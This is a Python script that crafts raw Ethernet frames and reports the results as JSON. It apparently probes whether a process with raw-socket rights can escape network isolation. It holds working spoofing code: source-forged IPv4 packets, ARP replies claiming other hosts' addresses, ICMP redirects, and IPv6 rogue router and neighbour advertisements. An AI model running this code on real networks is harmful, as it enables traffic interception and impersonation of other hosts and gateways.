"""Sends frames that no program without every right can make, and prints what came of it as JSON.

Usage: frames.py MODE GATEWAY PEER...
  forge   packets to each PEER, a foreign address, handed to GATEWAY's hardware under several senders
  claim   says in ARP and ICMP to be each PEER, on every interface, and lists what is drawn to it
  ipv6    asks the neighbours for IPv6, offers itself as a router, and lists what GATEWAY answers
"""
import json
import select
import socket
import struct
import sys
import time

OUTGOING = 4
EVERY, IPV4, ARP, IPV6 = 0x0003, 0x0800, 0x0806, 0x86DD
EVERYBODY = b"\xff" * 6
WAIT = 0.8
ROUNDS = 6


class Link:
    def __init__(self, name):
        self.name = name
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY))
        self.socket.bind((name, 0))
        self.mac = self.socket.getsockname()[4]

    def send(self, to, kind, payload):
        self.socket.send(to + self.mac + struct.pack("!H", kind) + payload)

    def heard(self, seconds):
        """Frames of others, until a time is over."""
        end = time.monotonic() + seconds
        while True:
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.socket], [], [], left)[0]:
                return
            frame, (_, _, direction, _, _) = self.socket.recvfrom(65535)
            if direction != OUTGOING:
                yield frame


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(address):
    return socket.inet_aton(address)


def ipv4(protocol, source, to, payload):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0) + source + to
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def pseudo(source, to, protocol, length):
    return source + to + struct.pack("!BBH" if len(to) == 4 else "!xxBBH", 0, protocol, length)


def transport(protocol, source, to, data):
    """Fills the checksum in: where it is depends on the protocol."""
    at = {6: 16, 17: 6, 58: 2}[protocol]
    value = checksum(pseudo(source, to, protocol, len(data)) + data)
    return data[:at] + struct.pack("!H", value) + data[at + 2:]


def udp(source, to, port, payload=b"\0\xff"):
    data = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    return transport(17, source, to, data)


def syn(source, to, port):
    return transport(6, source, to, struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1024, 0, 0))


def arp(link, operation, sender, target, to=EVERYBODY):
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + link.mac + sender + to + target
    link.send(to, ARP, body)


def own_address(gateway):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((gateway, 53))
        return s.getsockname()[0]


def find_mac(link, own, gateway):
    """Hardware address of the gateway, or nothing when it does not say."""
    arp(link, 1, own, gateway)
    for frame in link.heard(WAIT):
        if frame[12:14] == struct.pack("!H", ARP) and frame[28:32] == gateway:
            return frame[22:28]
    return None


def forge(link, own, gateway, peers):
    mac = find_mac(link, own, gateway)
    if mac is None:
        return {"sent": 0, "control": False}
    senders = [own, gateway, *peers, ip("127.0.0.1")]
    packets = []
    for to in peers:
        for source in senders:
            packets.append(ipv4(17, source, to, udp(source, to, 53)))
            packets.append(ipv4(6, source, to, syn(source, to, 443)))
            packets.append(ipv4(1, source, to, b"\x08\0\xf7\xfd\0\0\0\x02"))
    for packet in packets:
        # To its hardware, and to everybody's.
        link.send(mac, IPV4, packet)
        link.send(EVERYBODY, IPV4, packet)
    # What is made like this is taken for a packet: a name server answers it.
    query = b"\0\x07\1\0\0\1\0\0\0\0\0\0\7allowed\4test\0\0\1\0\1"
    link.send(mac, IPV4, ipv4(17, own, gateway, udp(own, gateway, 53, query)))
    answers = [frame for frame in link.heard(WAIT) if frame[23:24] == b"\x11" and frame[26:30] == gateway]
    return {"sent": 2 * len(packets), "control": len(answers) > 0}


def claim(links, own, gateway, peers):
    drawn, known = [], False
    for link in links:
        known = known or find_mac(link, own, gateway) is not None
    for _ in range(ROUNDS):
        for link in links:
            for peer in peers:
                arp(link, 2, peer, gateway)
                arp(link, 1, peer, gateway)
                # A redirect of its router: whatever is for the peer is better sent to us.
                quoted = ipv4(17, gateway, peer, udp(gateway, peer, 53))[:28]
                body = b"\5\1\0\0" + own + quoted
                body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
                link.send(EVERYBODY, IPV4, ipv4(1, peers[0], gateway, body))
        for link in links:
            for frame in link.heard(0.25):
                if frame[12:14] == struct.pack("!H", IPV4) and frame[30:34] in peers:
                    drawn.append(f"{link.name}: a packet for {socket.inet_ntoa(frame[30:34])}")
    return {"drawn": drawn, "control": known}


def ipv6(link, gateway_mac, peers):
    source = socket.inet_pton(socket.AF_INET6, "fe80::7")
    everybody = socket.inet_pton(socket.AF_INET6, "ff02::1")
    routers = socket.inet_pton(socket.AF_INET6, "ff02::2")

    def send(mac, to, protocol, data, hops=255):
        body = transport(protocol, source, to, data)
        head = struct.pack("!IHBB", 6 << 28, len(body), protocol, hops) + source + to
        link.send(mac, IPV6, head + body)

    def multicast(to, data):
        send(b"\x33\x33" + to[12:], to, 58, data)

    me = b"\1\1" + link.mac
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 600, 600, 0) + peers[0][:8] + b"\0" * 8
    multicast(everybody, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 600, 0, 0) + me + prefix)
    multicast(everybody, b"\x80\0\0\0\0\7\0\1")
    multicast(routers, b"\x85\0\0\0\0\0\0\0" + me)
    if gateway_mac is not None:
        # The address that a gateway with IPv6 would have made of its hardware's.
        local = b"\xfe\x80" + b"\0" * 6 + bytes([gateway_mac[0] ^ 2]) + gateway_mac[1:3] + b"\xff\xfe" + gateway_mac[3:]
        multicast(b"\xff\2" + b"\0" * 9 + b"\1\xff" + local[13:], b"\x87\0\0\0\0\0\0\0" + local + me)
    for to in peers:
        for mac in [gateway_mac or EVERYBODY, EVERYBODY]:
            send(mac, to, 17, struct.pack("!HHHH", 40000, 53, 8, 0), 64)
            send(mac, to, 6, struct.pack("!HHIIBBHHH", 40000, 443, 1, 0, 0x50, 2, 1024, 0, 0), 64)
    # The machine's own end of the network has a link-local address: only the gateway is asked about.
    heard = [
        socket.inet_ntop(socket.AF_INET6, frame[22:38])
        for frame in link.heard(2 * WAIT)
        if frame[6:12] == gateway_mac and frame[12:14] == struct.pack("!H", IPV6)
    ]
    return {"heard": heard, "control": gateway_mac is not None}


def main():
    mode, gateway, *peers = sys.argv[1:]
    links = [Link(name) for _, name in socket.if_nameindex() if name != "lo" and name.startswith("eth")]
    own = ip(own_address(gateway))
    if mode == "forge":
        return forge(links[0], own, ip(gateway), [ip(peer) for peer in peers])
    if mode == "claim":
        return claim(links, own, ip(gateway), [ip(peer) for peer in peers])
    mac = find_mac(links[0], own, ip(gateway))
    return ipv6(links[0], mac, [socket.inet_pton(socket.AF_INET6, peer) for peer in peers])


print(json.dumps(main()))
